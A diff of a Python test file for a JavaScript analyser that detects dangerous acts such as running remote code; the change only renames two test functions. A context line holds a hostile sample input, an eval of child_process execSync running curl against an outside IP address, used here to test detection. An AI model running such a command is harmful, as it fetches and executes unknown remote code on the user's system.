@@ -248,7 +248,7 @@ def test_code_that_a_tool_made_unreadable_is_found(code: str) -> None:
         ("eval(require('child_process').execSync('curl -s http://203.0.113.7/a').toString())", Act.RUN_REMOTE),
     ],
 )  # fmt: skip
-def test_what_a_shell_is_told_is_read_by_the_reader_of_shells(code: str, act: Act) -> None:
+def test_commands_for_a_shell_are_read_by_the_shell_reader(code: str, act: Act) -> None:
     assert act in acts(read_javascript(code))
 
 
@@ -299,7 +299,7 @@ def test_broken_code_is_read_as_far_as_it_goes(code: str) -> None:
     assert Act.RUN_REMOTE in acts(read_javascript(code))
 
 
-def test_what_stands_before_a_text_that_never_ends_is_kept() -> None:
+def test_code_before_an_unclosed_string_is_kept() -> None:
     with pytest.raises(Unparsed) as caught:
         read_javascript("eval(x); const s = `never closed")
 
